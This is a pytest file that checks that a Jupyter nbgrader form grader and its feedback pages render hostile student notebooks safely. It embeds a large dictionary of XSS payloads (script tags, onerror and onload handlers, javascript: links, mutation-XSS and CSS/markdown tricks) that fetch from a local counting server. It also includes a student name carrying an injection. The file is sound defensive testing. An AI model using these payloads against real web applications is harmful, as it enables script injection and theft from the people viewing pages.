"""What a submission can do to the person who looks at it: nothing, in the form grader and on the feedback page."""

import base64
import contextlib
import io
import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from copy import deepcopy
from pathlib import Path

import pytest
from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from PIL import Image

from course_lib.classroom import cells, gradebook, text
from course_lib.classroom.gradebook import Course
from tests.browser.chromium import Visit
from tests.classroom.mini import UNIT, by_id, mini, submission
from tests.http_server import serving
from tests.processes import kill

HONEST, ATTACKER, UNSAFE = "Zoë O'Hara", text.student_name('<img src=x onerror="steal()">'), "unsafe"
TOKEN = "a-token-of-this-test"
STEAL = "document.title='stolen';fetch('{url}fetch')"
# Each tries to run a script, or to load or send something. {js} sets the title; {url} is a server that counts
PAYLOADS = {
    "script": "<script>{js}</script>",
    "script in capitals": "<ScRiPt >{js}</sCrIpT >",
    "script from elsewhere": "<script src='{url}script'></script>",
    "onerror": "<img src=x onerror=\"{js}\">",
    "no quotes, no end": "<img/src=x/onerror=eval(atob('{b64}'))//",
    "a line end in a tag": "<img src=x\nonerror\n=\n\"{js}\">",
    "remote picture": "<img src='{url}picture'>",
    "srcset": "<img srcset='{url}srcset 1x'><picture><source srcset='{url}source'><img></picture>",
    "iframe": "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe><iframe src='{url}iframe'></iframe>",
    "javascript iframe": "<iframe src=\"javascript:parent.{js}\"></iframe>",
    "object": "<object data='{url}object'></object><embed src='{url}embed'>",
    "svg": "<svg onload=\"{js}\"><script>{js}</script><image href='{url}svg'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"{js}\"></style></mglyph></table></mtext></math>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>",
    "details": "<details open ontoggle=\"{js}\">x</details>",
    "autofocus": "<input autofocus onfocus=\"{js}\"><b tabindex=1 autofocus onfocus=\"{js}\">x</b>",
    "animation": "<style>@keyframes a{{}}</style><b style='animation:a 1s' onanimationstart=\"{js}\">x</b>",
    "style": "<style>@import '{url}import';body{{background:url({url}background)}}</style>",
    "style attribute": "<p style=\"background:url('{url}style')\">x</p>",
    "link": "<link rel=stylesheet href='{url}link'><link rel=preload as=image href='{url}preload'>",
    "base": "<base href='{url}base/'>",
    "refresh": "<meta http-equiv=refresh content='0;url={url}refresh'>",
    "form": "<form id=f action='{url}form'><input name=a></form><script>document.getElementById('f').submit()</script>",
    "media": "<video src='{url}video' autoplay onerror=\"{js}\"></video><audio src='{url}audio' autoplay></audio>",
    "links": "<a id=click href=\"javascript:{js}\">click</a> <a href='{url}a' ping='{url}ping'>click</a>",
    "markdown links": "[click](javascript:{js}) [click]({url}md) <javascript:{js}> [a][b]\n\n[b]: javascript:{js}",
    "markdown pictures": "![x]({url}mdpicture) ![x](javascript:{js}) ![x][y]\n\n[y]: {url}reference",
    "markdown picture's text": "![\"onerror=\"{js}]({url}alt \"x\\\" onerror={js}\")",
    "data": "<iframe src='data:text/html,<script>parent.{js}</script>'></iframe><a href='data:text/html,x'>click</a>",
    "comment": "<!--><script>{js}</script>--><!-- --!><img src=x onerror=\"{js}\">-->",
    "entities": "&lt;script&gt;{js}&lt;/script&gt;<p>&#60;img src=x onerror={js}&#62;</p>",
    "code": "`<script>{js}</script>`\n\n```html\n<script>{js}</script>\n```\n\n    <script>{js}</script>\n",
    "mermaid": "```mermaid\ngraph TD\nA[<img src=x onerror={js}>]\nclick A href \"javascript:{js}\"\n```",
    "mathematics": "$\\href{{javascript:{js}}}{{x}}$ $<img src=x onerror=\"{js}\">$ $$\\style{{background:url({url}tex)}}{{x}}$$",
    "ends of the page": "</div></pre></textarea></body></html><script>{js}</script>",
    "attachment": "![x](attachment:x.svg) ![x](attachment:missing.png)",
}  # fmt: skip
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js}\"><script>{js}</script></svg>"


def picture() -> str:
    stream = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(stream, "PNG")
    return base64.b64encode(stream.getvalue()).decode()


def attacks(text: str, code: str) -> list[NotebookNode]:
    """Cells that carry a payload wherever a notebook can."""
    svg = SVG.format(js=code)
    attachment = {"x.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
    quote = f'"><script>{code}</script><img src="'
    outputs = [
        *(new_output("display_data", data={kind: text}) for kind in ("text/html", "text/markdown", "text/latex", "text/plain")),
        new_output("display_data", data={"text/html": text}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"image/svg+xml": svg}),
        new_output("display_data", data={"application/javascript": code}),
        new_output("display_data", data={"image/png": quote}, metadata={"image/png": {"width": quote, "alt": quote}}),
        new_output("display_data", data={"image/png": picture()}, metadata={"filenames": {"image/png": "javascript:" + code}}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{text}"}}),
        new_output("stream", text=f"\x1b[31m{text}\x1b[0m"),
        new_output("error", ename=text, evalue=text, traceback=[f"\x1b[31m{text}\x1b[0m", f"\x1b[4{text}m"]),
    ]
    made = [new_markdown_cell(text, attachments=attachment), new_raw_cell(text, metadata=dict(raw_mimetype="text/html"))]
    made += [new_raw_cell(text), new_code_cell(f"%%html\n{text}", outputs=outputs)]
    for cell in made:
        cell.metadata |= dict(tags=[quote, text], name=text, magics_language=text, collapsed=text, alt=quote)
    made[-1].execution_count = None
    return made


def plainly(text: str) -> list[NotebookNode]:
    """Cells that carry a payload where nbgrader shows it as it is."""
    kinds = ("text/html", "text/markdown", "text/plain")
    return [
        new_markdown_cell(text),
        new_code_cell("1", outputs=[new_output("display_data", data={kind: text}) for kind in kinds]),
    ]


def hostile(url: str, chosen: dict[str, str], *, everywhere: bool = True) -> NotebookNode:
    """A graded notebook of an attacker, before it is stored."""
    code = STEAL.format(url=url)
    texts = [payload.format(js=code, url=url, b64=base64.b64encode(code.encode()).decode()) for payload in chosen.values()]
    merged, _ = cells.merge(mini(), submission({"answer-3": "\n\n".join(texts), "answer-1": f"'''\n{texts[0]}'''"}))
    for payload in texts:
        merged.cells += plainly(payload)
    if everywhere:
        merged.cells += attacks("\n\n".join(texts), code)
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"a": f"</script>{texts[0]}"}}}
    merged.metadata |= dict(title=texts[0], widgets=widgets)
    for number, cell in enumerate(merged.cells):
        cell.id = f"cell-{number}"
    return from_dict(merged)


def honest() -> NotebookNode:
    answer = "It **halves** the `weights`:\n\n| bits | size |\n|---|---|\n| 8 | 25 % |\n\n> so it is\n\n$a<b$ and a<b<c"
    merged, _ = cells.merge(mini(), submission({"answer-3": answer}))
    style = "<style scoped>\n.dataframe {color: red}\n</style>"
    table = f'<div>\n{style}\n<table border="1" class="dataframe"><tr><td>4711</td></tr></table>\n</div>'
    outputs = [new_output("display_data", data={"image/png": picture(), "text/plain": "<Figure>"})]
    outputs += [new_output("execute_result", data={"text/html": table, "text/plain": "  x"}, execution_count=1)]
    outputs += [new_output("stream", text="loss < 1\n")]
    by_id(merged)["answer-1"].outputs = outputs
    return merged


@pytest.fixture(scope="module")
def pages(tmp_path_factory) -> Iterator[tuple[Course, str, list]]:
    """A graded class, the form grader's address, and the requests that reached the attacker's server."""
    with serving({}) as server:
        course = Course(tmp_path_factory.mktemp("out"))
        course.assign(UNIT, mini())
        course.save(UNIT, HONEST, honest(), scored=True)
        course.save(UNIT, ATTACKER, hostile(server.url(""), PAYLOADS), scored=True)
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(gradebook.pages, "safe", lambda notebook, own: deepcopy(notebook))
            stays = {name: PAYLOADS[name] for name in ("script", "onerror", "remote picture")}
            course.save(UNIT, UNSAFE, hostile(server.url(""), stays, everywhere=False), scored=True)
        for student in (HONEST, ATTACKER, UNSAFE):
            course.feedback(UNIT, student)
        with form_grader(course.root) as address:
            yield course, address, server.asked


@contextlib.contextmanager
def form_grader(folder: Path) -> Iterator[str]:
    """The address of Jupyter's server with nbgrader's form grader, started where an instructor would."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    options = [f"--port={port}", "--ip=127.0.0.1", "--ServerApp.port_retries=0", "--no-browser", "--allow-root"]
    command = [sys.executable, "-m", "jupyter_server", *options, f"--IdentityProvider.token={TOKEN}"]
    private = {f"JUPYTER_{kind}_DIR": str(folder / ".jupyter" / kind) for kind in ("CONFIG", "RUNTIME", "DATA")}
    environment = os.environ | private
    log = folder.parent / "server.log"
    with log.open("w") as stream:
        process = subprocess.Popen(
            command, cwd=folder, env=environment, start_new_session=True, stdout=stream, stderr=subprocess.STDOUT
        )
    try:
        address = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while not answers(f"{address}/api/status?token={TOKEN}"):
            assert process.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        yield address
    finally:
        kill(process)


def answers(address: str) -> bool:
    with contextlib.suppress(OSError), urllib.request.urlopen(address, timeout=5) as reply:
        return reply.status == 200
    return False


@pytest.fixture(params=["feedback", "form grader"])
def address(request, pages):
    """Student -> the address of a page about them."""
    course, server, _ = pages

    def of(student: str) -> str:
        if request.param == "feedback":
            return (course.root / "feedback" / student / UNIT / f"{UNIT}.html").as_uri()
        with Gradebook(course.database) as book:
            return f"{server}/formgrader/submissions/{book.find_submission_notebook(UNIT, UNIT, student).id}/?token={TOKEN}"

    return of


DANGEROUS = """
() => [...document.querySelectorAll('.text_cell_render *, .output_area *, .input_area *')].flatMap(element =>
    [...element.attributes].filter(a => !['class', 'id', 'alt', 'colspan', 'rowspan'].includes(a.name))
        .map(a => a.name + '=' + a.value)
        .filter(text => !/^src=data:image.(png|jpeg);base64,[A-Za-z0-9+/=]+$/.test(text)))
"""


def test_no_payload_runs_loads_or_leads_anywhere(browser, pages, address):
    usual, visit = Visit(browser), Visit(browser)
    usual.open(address(HONEST))
    pages[2].clear()
    page = visit.open(address(ATTACKER))
    assert page.title() == UNIT and len(page.query_selector_all(".output_area")) > 3 * len(PAYLOADS)
    assert pages[2] == [] and visit.dialogs == [] and visit.far == usual.far
    assert len(visit.went) == len(usual.went) and visit.went[-1].split("?")[0] == address(ATTACKER).split("?")[0]
    assert not page.query_selector(
        "iframe, object, embed, form, base, meta[http-equiv=refresh], svg, .rendered_html a[href^='j']"
    )
    strange = [text for text in page.evaluate(DANGEROUS) if not text.startswith(("href=#", "tabindex=", "alt=No description"))]
    assert strange == []
    for link in page.query_selector_all(".text_cell_render a, .output_area a"):
        assert link.get_attribute("href").startswith("#")


def test_the_same_payloads_run_where_nothing_is_made_safe(browser, pages, address):
    """Else the test above would pass on a page that shows nothing."""
    pages[2].clear()
    visit = Visit(browser)
    visit.page.goto(address(UNSAFE), wait_until="domcontentloaded")
    visit.page.wait_for_function("document.title == 'stolen'")
    if address(UNSAFE).startswith("http"):
        visit.page.wait_for_load_state("networkidle")
        assert {"fetch", "picture"} <= {name for name, _ in pages[2]}


def test_honest_work_is_shown(browser, address):
    page = Visit(browser).open(address(HONEST))
    sizes = page.eval_on_selector_all(".output_png img", "images => images.map(i => [i.complete, i.naturalWidth])")
    assert sizes == [[True, 40]]
    assert page.inner_text(".output_html td") == "4711" and ".dataframe" not in page.inner_text("body")
    answer = page.locator(".text_cell_render", has_text="It halves").first
    assert answer.locator("strong").inner_text() == "halves" and answer.locator("code").inner_text() == "weights"
    assert answer.locator("td").all_inner_texts() == ["8", "25 %"] and answer.locator("blockquote").inner_text() == "so it is"
    assert "a<b<c" in answer.inner_text() and "loss < 1" in page.inner_text(".output_stream")
    assert "Write double(x)." in page.inner_text("body")


def test_lists_of_students_show_names_as_text(browser, pages):
    course, server, hits = pages
    hits.clear()
    for place in (f"gradebook/{UNIT}/{UNIT}", "manage_students", f"manage_submissions/{UNIT}"):
        visit = Visit(browser)
        page = visit.open(f"{server}/formgrader/{place}?token={TOKEN}")
        assert "stolen" not in page.title() and visit.dialogs == [] and hits == []
        if place == "manage_students":
            assert HONEST in page.inner_text("body") and ATTACKER in page.inner_text("body")
